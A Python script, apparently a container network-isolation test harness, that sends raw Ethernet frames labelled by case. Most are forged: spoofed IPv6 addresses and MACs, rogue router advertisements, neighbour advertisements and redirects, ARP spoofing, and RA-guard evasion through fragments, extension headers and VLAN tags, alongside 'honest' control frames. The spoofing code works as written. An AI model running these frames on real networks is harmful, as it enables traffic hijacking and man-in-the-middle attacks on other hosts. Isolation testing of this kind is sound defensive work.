"""Sends frames as a container's root can, forged and honest, each with its name in it.

usage: attack.py JSON, with interface, mac and address of the sender, of a victim and of the router, and names.
"""

import json
import os
import socket
import struct
import sys

HOP_BY_HOP, TCP, UDP, IPV6_IN_IPV6, ROUTING, FRAGMENT, ICMPV6, DESTINATION, SCTP = 0, 6, 17, 41, 43, 44, 58, 60, 132
IPV6, ARP, IPV4 = 0x86DD, 0x0806, 0x0800
ALL_NODES = "ff02::1"
ALL_NODES_MAC = "33:33:00:00:00:01"
BROADCAST = "ff:ff:ff:ff:ff:ff"
UNUSED, OUTSIDE = "2001:db8:1::dead", "2001:db8:77::1"
RANDOM_MAC = "02:de:ad:be:ef:01"

a = json.loads(sys.argv[1])
me, victim, router = a["me"], a["victim"], a["router"]
MARK = b""


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ip(text):
    return socket.inet_pton(socket.AF_INET6, text)


def link_local(text):
    m = mac(text)
    return socket.inet_ntop(socket.AF_INET6, ip("fe80::")[:8] + bytes([m[0] ^ 2]) + m[1:3] + b"\xff\xfe" + m[3:])


def padded(data, to=8, at=0):
    return data + bytes(-(len(data) + at) % to)


def ether(destination, source, kind, payload):
    return mac(destination) + mac(source) + struct.pack("!H", kind) + payload


def packet(source, destination, following, payload, limit=255):
    head = struct.pack("!IHBB", 6 << 28, len(payload), following, limit)
    return head + ip(source) + ip(destination) + payload


def checksum(source, destination, protocol, data):
    pseudo = ip(source) + ip(destination) + struct.pack("!II", len(data), protocol) + padded(data, 2)
    total = sum(struct.unpack("!%dH" % (len(pseudo) // 2), pseudo))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF or 0xFFFF


def icmp(source, destination, kind, body):
    data = struct.pack("!BBH", kind, 0, 0) + body
    return data[:2] + struct.pack("!H", checksum(source, destination, ICMPV6, data)) + data[4:]


def udp(source, destination, sport, dport, text=b""):
    data = struct.pack("!HHHH", sport, dport, 8 + len(MARK + text), 0) + MARK + text
    return data[:6] + struct.pack("!H", checksum(source, destination, UDP, data)) + data[8:]


def tcp(source, destination, sport, dport):
    data = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, 0x50, 2, 1000, 0, 0) + MARK
    return data[:16] + struct.pack("!H", checksum(source, destination, TCP, data)) + data[18:]


def option(kind, value):
    """A neighbour discovery option: RFC 4861, section 4.6."""
    value = padded(value, 8, 2)
    return bytes([kind, (len(value) + 2) // 8]) + value


def marked():
    return option(253, MARK)


def extension(kind, following, payload):
    """Hop-by-hop or destination options with nothing but the mark, or a routing header."""
    if kind == ROUTING:
        return bytes([following, 2, 4, 0]) + bytes(4) + ip(ALL_NODES) + payload
    inside = bytes([0x1E, len(MARK)]) + MARK  # unknown, to be skipped: RFC 8200, section 4.2
    inside += bytes(-(len(inside) + 2) % 8)  # Pad1
    return bytes([following, (len(inside) + 2) // 8 - 1]) + inside + payload


def fragments(source, destination, following, payload, first):
    """The packet in two fragments, the first with so many octets."""
    def part(offset, more, data):
        head = struct.pack("!BBHI", following, 0, offset | more, 0x76367036)
        return packet(source, destination, FRAGMENT, head + data)
    return [part(0, 1, payload[:first]), part(first, 0, payload[first:])]


def nd(kind, body, source=None, destination=ALL_NODES):
    return icmp(source or me["link"], destination, kind, body)


def advertisement(target, destination, source=None, address=None):
    """RFC 4861, section 4.4, with the override flag, from a router."""
    body = struct.pack("!I", 0xA0000000) + ip(target) + option(2, mac(address or me["mac"])) + marked()
    return packet(source or target, destination, ICMPV6, nd(136, body, source or target, destination))


def solicitation(target, source, destination):
    body = bytes(4) + ip(target) + (b"" if source == "::" else option(1, mac(me["mac"]))) + marked()
    return packet(source, destination, ICMPV6, icmp(source, destination, 135, body))


def ra(destination=ALL_NODES, source=None):
    """A router advertisement with a lifetime and a prefix to make addresses from."""
    prefix = option(3, struct.pack("!BBIII", 64, 0xC0, 3600, 3600, 0) + ip("2001:db8:bad::"))
    body = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + marked() + prefix
    return nd(134, body, source, destination)


def to_all(payload, source=None, address=ALL_NODES_MAC):
    return ether(address, source or me["mac"], IPV6, payload)


def both(make, source=None, kind=IPV6):
    """To the victim and to the host."""
    for whom in (victim, router):
        yield ether(whom["mac"], source or me["mac"], kind, make(whom["address"]))


def datagram(source, following=None, source_mac=None, sport=4444, dport=5555):
    def make(destination):
        content, kind = udp(source, destination, sport, dport), UDP
        if following is not None:
            content, kind = extension(following, UDP, content), following
        return packet(source, destination, kind, content, 64)
    return both(make, source_mac)


def in_fragments(source, destination, following, payload, first, to=ALL_NODES_MAC):
    for part in fragments(source, destination, following, payload, first):
        yield to_all(part, address=to)


def split_to_both(protocol, make, first):
    for whom in (victim, router):
        yield from in_fragments(me["address"], whom["address"], protocol, make(whom["address"]), first, whom["mac"])


def tagged(kind, tag, payload):
    return ether(ALL_NODES_MAC, me["mac"], kind, struct.pack("!HH", tag, IPV6) + payload)


def arp(operation, address):
    body = struct.pack("!HHBBH", 1, IPV4, 6, 4, operation) + mac(me["mac"]) + socket.inet_aton(address)
    body += mac(victim["mac"]) + socket.inet_aton("198.51.100.9") + MARK
    return [ether(BROADCAST, me["mac"], ARP, body)]


def ipv4(destination="255.255.255.255"):
    data = struct.pack("!HHHH", 1, 5555, 8 + len(MARK), 0) + MARK
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 1, 0, 64, UDP, 0,
                       socket.inet_aton("198.51.100.1"), socket.inet_aton(destination))
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack("!H", ~total & 0xFFFF) + head[12:] + data


def redirect(source, destination):
    """From the router: what goes to OUTSIDE, send to me. RFC 4861, section 4.5."""
    body = bytes(4) + ip(me["link"]) + ip(OUTSIDE) + option(2, mac(me["mac"])) + marked()
    return nd(137, body, source, destination)


def behind(kind, payload, source=None, destination=ALL_NODES, protocol=ICMPV6):
    return packet(source or me["link"], destination, kind, extension(kind, protocol, payload))


ra_packet = lambda: packet(me["link"], ALL_NODES, ICMPV6, ra())
echo = lambda destination, size=0: icmp(me["address"], destination, 128, struct.pack("!HH", 7, 7) + MARK + bytes(size))
plain = lambda following, make: both(lambda to: packet(me["address"], to, following, make(to), 64))

FRAMES = {
    # Case 34: source addresses and MACs.
    "address-of-victim": lambda: datagram(victim["address"]),
    "address-of-router": lambda: datagram(router["address"]),
    "address-unused": lambda: datagram(UNUSED),
    "address-from-outside": lambda: datagram(OUTSIDE),
    "address-link-local-of-router": lambda: datagram(router["link"]),
    "address-none": lambda: datagram("::"),
    "address-by-tcp": lambda: both(lambda to: packet(UNUSED, to, TCP, tcp(UNUSED, to, 1, 2))),
    "address-by-ping": lambda: both(lambda to: packet(UNUSED, to, ICMPV6, icmp(UNUSED, to, 128, bytes(4) + MARK))),
    "address-behind-options": lambda: datagram(UNUSED, DESTINATION),
    "mac-unused": lambda: datagram(me["address"], None, RANDOM_MAC),
    "mac-and-address-of-victim": lambda: [ether(router["mac"], victim["mac"], IPV6, packet(
        victim["address"], router["address"], UDP, udp(victim["address"], router["address"], 1, 5555)))],
    # Case 35: neighbour advertisements and solicitations.
    "na-of-router": lambda: [to_all(advertisement(router["address"], ALL_NODES))],
    "na-of-router-link-local": lambda: [to_all(advertisement(router["link"], ALL_NODES))],
    "na-of-router-from-me": lambda: [to_all(advertisement(router["address"], ALL_NODES, me["link"]))],
    "na-of-unused-from-me": lambda: [to_all(advertisement(UNUSED, ALL_NODES, me["address"]))],
    "na-of-neighbour": lambda: [to_all(advertisement(a["neighbour"], ALL_NODES))],
    "na-of-neighbour-from-me": lambda: [to_all(advertisement(a["neighbour"], ALL_NODES, me["link"]))],
    "na-behind-hop-by-hop": lambda: [to_all(behind(
        HOP_BY_HOP, nd(136, struct.pack("!I", 0xA0000000) + ip(a["neighbour"]) + option(2, mac(me["mac"])))))],
    "na-in-fragments": lambda: in_fragments(
        me["link"], ALL_NODES, ICMPV6,
        nd(136, struct.pack("!I", 0xA0000000) + ip(a["neighbour"]) + marked() + option(2, mac(me["mac"]))), 24 + len(marked())),
    "ns-from-neighbour": lambda: [to_all(solicitation(victim["address"], a["neighbour"], victim["address"]), address=victim["mac"]),
                                  to_all(solicitation(router["address"], a["neighbour"], router["address"]), address=router["mac"])],
    "ns-for-duplicates-of-victim": lambda: [to_all(solicitation(victim["address"], "::", ALL_NODES))],
    "ns-behind-hop-by-hop": lambda: [to_all(behind(HOP_BY_HOP, nd(135, bytes(4) + ip(victim["address"]))))],
    # Case 36: routers and redirects.
    "ra": lambda: [to_all(ra_packet())],
    "ra-to-one": lambda: both(lambda to: packet(me["link"], to, ICMPV6, ra(to))),
    "ra-behind-hop-by-hop": lambda: [to_all(behind(HOP_BY_HOP, ra()))],
    "ra-behind-destination-options": lambda: [to_all(behind(DESTINATION, ra()))],
    "ra-behind-both": lambda: [to_all(packet(
        me["link"], ALL_NODES, HOP_BY_HOP, extension(HOP_BY_HOP, DESTINATION, extension(DESTINATION, ICMPV6, ra()))))],
    "ra-in-fragments": lambda: in_fragments(me["link"], ALL_NODES, ICMPV6, ra(), 16 + len(marked())),
    "ra-in-one-fragment": lambda: [to_all(packet(
        me["link"], ALL_NODES, FRAGMENT, struct.pack("!BBHI", ICMPV6, 0, 0, 7) + ra()))],
    "ra-hidden-in-fragments": lambda: in_fragments(
        me["link"], ALL_NODES, DESTINATION, extension(DESTINATION, ICMPV6, ra()), len(extension(DESTINATION, ICMPV6, b""))),
    "ra-behind-options-in-fragments": lambda: in_fragments(
        me["link"], ALL_NODES, DESTINATION, extension(DESTINATION, ICMPV6, ra()), len(extension(DESTINATION, ICMPV6, b"")) + 16 + len(marked())),
    "ra-in-vlan-0": lambda: [tagged(0x8100, 0, ra_packet())],
    "ra-in-vlan-5": lambda: [tagged(0x8100, 5, ra_packet())],
    "ra-in-vlan-0-of-provider": lambda: [tagged(0x88A8, 0, ra_packet())],
    "ra-in-two-vlans-0": lambda: [ether(ALL_NODES_MAC, me["mac"], 0x8100, struct.pack("!HHHH", 0, 0x8100, 0, IPV6) + ra_packet())],
    "redirect": lambda: [to_all(packet(router["link"], victim["address"], ICMPV6, redirect(router["link"], victim["address"])), address=victim["mac"])],
    "redirect-from-me": lambda: [to_all(packet(me["link"], ALL_NODES, ICMPV6, redirect(me["link"], ALL_NODES)))],
    "mld-query": lambda: [to_all(packet(me["link"], ALL_NODES, ICMPV6, nd(130, bytes(4) + ip("::") + MARK)))],
    "router-renumbering": lambda: [to_all(packet(me["link"], ALL_NODES, ICMPV6, nd(138, bytes(12) + MARK)))],
    "routing-header": lambda: both(lambda to: packet(me["address"], to, ROUTING, extension(ROUTING, UDP, udp(me["address"], to, 1, 5555)))),
    # Case 37: DHCPv6 servers, and what is not IPv6.
    "dhcpv6-server": lambda: datagram(me["address"], None, None, 547, 546),
    # The port that a server sends from is not fixed.
    "dhcpv6-server-from-any-port": lambda: datagram(me["address"], None, None, 5000, 546),
    "dhcpv6-server-link-local": lambda: datagram(me["link"], None, None, 547, 546),
    "dhcpv6-server-behind-options": lambda: datagram(me["address"], DESTINATION, None, 547, 546),
    "dhcpv6-server-in-fragments": lambda: split_to_both(UDP, lambda to: udp(me["address"], to, 547, 546, bytes(64)), 64),
    "arp-request": lambda: arp(1, "198.51.100.1"),
    "arp-reply": lambda: arp(2, "198.51.100.2"),
    "ipv4": lambda: [ether(BROADCAST, me["mac"], IPV4, ipv4())],
    "ipv4-in-vlan-0": lambda: [ether(BROADCAST, me["mac"], 0x8100, struct.pack("!HH", 0, IPV4) + ipv4())],
    "vlan-0": lambda: [tagged(0x8100, 0, packet(me["address"], ALL_NODES, UDP, udp(me["address"], ALL_NODES, 1, 5555)))],
    "spanning-tree": lambda: [ether("01:80:c2:00:00:00", me["mac"], 38 + len(MARK), b"\x42\x42\x03" + bytes(35) + MARK)],
    "unknown-ether-type": lambda: [ether(BROADCAST, me["mac"], 0x88B5, MARK)],
    "unknown-protocol": lambda: plain(253, lambda to: MARK),
    "tunnel": lambda: plain(IPV6_IN_IPV6, lambda to: packet(UNUSED, to, UDP, udp(UNUSED, to, 1, 5555))),
    # Case 38: other people's MACs.
    "mac-of-victim": lambda: [ether(router["mac"], victim["mac"], IPV6, packet(
        me["address"], router["address"], UDP, udp(me["address"], router["address"], 1, 5555)))],
    "mac-of-router": lambda: [ether(victim["mac"], router["mac"], IPV6, packet(
        me["address"], victim["address"], UDP, udp(me["address"], victim["address"], 1, 5555)))],
    # Past the bridge: this group address is not the bridge's to forward.
    "past-the-bridge": lambda: [ether("01:80:c2:00:00:0e", me["mac"], IPV6, packet(
        UNUSED, router["address"], UDP, udp(UNUSED, router["address"], 1, 5555)))],
    "past-the-bridge-by-ipv4": lambda: [ether("01:80:c2:00:00:0e", me["mac"], IPV4, ipv4(a.get("ipv4", "198.51.100.9")))],
    # What an honest container sends.
    "honest-udp": lambda: datagram(me["address"]),
    "honest-tcp": lambda: plain(TCP, lambda to: tcp(me["address"], to, 1, 2)),
    "honest-ping": lambda: plain(ICMPV6, echo),
    "honest-ping-in-fragments": lambda: split_to_both(ICMPV6, lambda to: echo(to, 64), 64),
    "honest-udp-in-fragments": lambda: split_to_both(UDP, lambda to: udp(me["address"], to, 1, 5555, bytes(64)), 64),
    "honest-options": lambda: datagram(me["address"], DESTINATION),
    "honest-sctp": lambda: plain(SCTP, lambda to: bytes(12) + MARK),
    "honest-link-local": lambda: datagram(me["link"]),
    "honest-ns": lambda: [to_all(solicitation(a["neighbour"], me["address"], ALL_NODES))],
    "honest-na": lambda: [to_all(advertisement(me["address"], ALL_NODES))],
    "honest-na-link-local": lambda: [to_all(advertisement(me["link"], ALL_NODES, me["address"]))],
    "honest-duplicates": lambda: [to_all(solicitation(me["address"], "::", ALL_NODES))],
    "honest-rs": lambda: [to_all(packet(me["link"], ALL_NODES, ICMPV6, nd(133, bytes(4) + marked())))],
    "honest-mld-report": lambda: [to_all(behind(HOP_BY_HOP, nd(143, bytes(4))))],
    "honest-mld-report-without-address": lambda: [to_all(behind(HOP_BY_HOP, nd(143, bytes(4), "::"), "::"))],
    "honest-error": lambda: plain(ICMPV6, lambda to: icmp(me["address"], to, 1, bytes(4) + MARK)),
}

if __name__ == "__main__":
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # frames stay in their order
    me["link"], router["link"] = link_local(me["mac"]), link_local(router["mac"])
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((a["interface"], 0))
    for name in a["names"]:
        MARK = b"v6pod-frame:" + name.encode() + b";"
        for frame in FRAMES[name]():
            sender.send(frame)
